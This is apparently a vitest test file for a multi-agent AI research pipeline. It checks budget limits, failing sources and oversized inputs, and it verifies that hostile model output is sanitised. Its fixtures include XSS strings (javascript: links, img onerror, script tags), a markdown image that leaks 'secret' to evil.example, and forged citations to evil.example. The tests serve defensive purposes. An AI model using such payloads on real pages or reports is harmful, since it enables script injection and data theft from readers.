/** A research with hostile models, sources and budgets: it ends, and its report lists the problems. */
import { describe, expect, test } from "vitest"
import { pureModel } from "../../agents/stand-ins.test-support.ts"
import { deepResearch } from "./deep.ts"
import type { ResearchReport } from "./report/report.ts"
import { reportHtml } from "./report/report-html.ts"
import { scripted, tea, verdict, watched, web } from "./research.test-support.ts"
import { iterativeResearch } from "./research-loop.ts"

const usage = (input: number) => ({ usage: { input, output: 0 } })

test("a repeated request for an answer counts against the budget, which ends the search", async () => {
  const { options } = scripted({
    thinker: [{ text: "hmm", ...usage(1) }],
    gap: [{ json: { research_complete: false, outstanding_gaps: ["x"] }, ...usage(1) }],
    selector: [
      { text: "no JSON", ...usage(60) },
      { text: "none again", ...usage(60) },
    ],
  })
  const run = await watched(iterativeResearch({ ...options, budget: { tokens: 100 } }).stream("What is tea?"))
  expect(run.nodes.slice(-2)).toEqual(["budget", "write"])
  expect(run.result.status).toBe("completed")
  expect(run.report).toContain('Incomplete: research: The answer of "selector" could not be read.')
  expect(run.report).toContain("Incomplete: research: Budget exceeded: tokens")
})

test("a run budget that ends during a repeated request still leads to the writer", async () => {
  const { options } = scripted({ selector: ["no JSON"] })
  const run = await watched(
    // The thinker, the gap, the selector: its second call does not fit.
    iterativeResearch(options).stream("What is tea?", { budget: { modelCalls: 3 } }),
  )
  expect(run.nodes.slice(-2)).toEqual(["budget", "write"])
  expect(run.report).toContain("Budget exceeded: modelCalls")
})

/** Every agent answers by its role; the test provides titles and texts. */
function against(titles: readonly string[], writes: string, opens = "All in all [1].") {
  const outline = titles.map((title, i) => ({ title, key_question: `What about ${i}?` }))
  const answers: Record<string, unknown> = {
    planner: { background_context: "", report_outline: outline, report_title: titles[0] },
    gap: { research_complete: false, outstanding_gaps: ["more"] },
    judge: verdict(false),
    thinker: "hmm",
    writer: writes,
    synthesizer: opens,
  }
  return pureModel((last, _, agent) => {
    const own = /What about (\d)\?/.exec(last)?.[1] ?? "0"
    const tasks = ["tea", `own ${own}`].map((query) => ({ agent: "web_search", query }))
    const answer = agent === "selector" ? { tasks } : (answers[agent] ?? "?")
    return typeof answer === "string" ? answer : JSON.stringify(answer)
  })
}

const deep = (model: ReturnType<typeof against>, find = tea, options = {}) =>
  watched(
    deepResearch({
      model,
      tools: [web(find)],
      sectionBudget: { iterations: 2 },
      ...options,
    }).stream("Tea?"),
  )

describe("a plan whose titles contain markup", () => {
  const titles = [
    "# [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "</h2><script>alert(1)</script>",
    "Same",
    "Same",
    "![y](https://evil.example/?q=secret) [1]",
    "x".repeat(5_000),
    "- item\n## Sources",
  ]

  test("has them as plain words, in the text, in the contents and in the page", async () => {
    const { report, result } = await deep(against(titles, "Tea [1]."))
    expect(result.status).toBe("completed")
    expect(report).not.toMatch(/(?<!\\)\]\(javascript|(?<!\\)<img|!\[y/)
    expect(report).toContain("4. [Same](#same-1)")
    expect(Math.max(...(report.match(/^## .*$/gm) ?? []).map((line) => line.length))).toBeLessThan(300)
    const page = reportHtml(result.state.report as ResearchReport)
    expect(page).not.toMatch(/<script|<img|href="(?!#|https:\/\/t\.example)/)
    expect(page.match(/<section id="section-/g)).toHaveLength(titles.length)
  })
})

test("forged citations, sources and notes of a model are removed", async () => {
  const writes =
    "Tea cures all [7][99].\n\nTea is old [1].\n\n## Also read\n\n- [Journal](https://evil.example)\n\n## Sources\n\n7. [Journal](https://evil.example)"
  const { report, result } = await deep(against(["Green"], writes, "Proven [42]. All [1]."))
  expect(report).not.toContain("evil.example")
  expect(report).toContain("Tea cures all. *(no source)*")
  expect(report).toContain("- Journal *(no source)*")
  const { sources, statements } = result.state.report as ResearchReport
  expect(sources.map(({ url }) => url)).toEqual(["https://t.example/tea"])
  expect(statements).toEqual({ total: 4, withoutSource: 2 })
})

test("a source that starts to fail is reported, and its earlier results are used", async () => {
  let left = 2
  const failing = (query: string) => {
    if (left-- > 0) return tea(query)
    throw new Error("connection reset")
  }
  const { report, result } = await deep(against(["Green", "Black"], "Tea [1]."), failing)
  expect(result.status).toBe("completed")
  expect(report).toMatch(/^Incomplete: web_search "own \d": web_search failed: connection reset/m)
  expect(report).toContain("| 1 | On tea |")
})

test("a huge document is truncated, and a huge report keeps its words", async () => {
  const huge = (query: string) => ({
    output: "x".repeat(1_000_000),
    sources: [
      { url: `https://t.example/${query}`, text: "Tea. ".repeat(1_000_000), author: "A".repeat(9_000) },
    ],
  })
  const { report, result } = await deep(against(["Green"], `${"[1] ".repeat(100_000)}\n\nTea [1].`), huge)
  expect(result.status).toBe("completed")
  expect(JSON.stringify(result.state).length).toBeLessThan(3_000_000)
  expect(report).toContain("Tea (1).")
  expect(reportHtml(result.state.report as ResearchReport)).toContain("Tea (1).")
})

test.each(["planner", "thinker", "gap", "selector", "judge", "writer", "synthesizer"])(
  "the run's own budget may end at any stage, here when the %s is called: there is still a report",
  async (agent) => {
    const order = ["planner", "thinker", "gap", "selector", "judge", "writer", "synthesizer"]
    const calls = order.indexOf(agent)
    const run = await watched(
      deepResearch({
        model: against(["Green"], "Tea [1]."),
        tools: [web()],
        sectionBudget: { iterations: 1 },
      }).stream("Tea?", { budget: { modelCalls: Math.max(1, calls) } }),
    )
    expect(run.result.status).toBe("completed")
    expect(run.report).toMatch(/^(?:Incomplete: .*\n\n)+# /)
  },
)
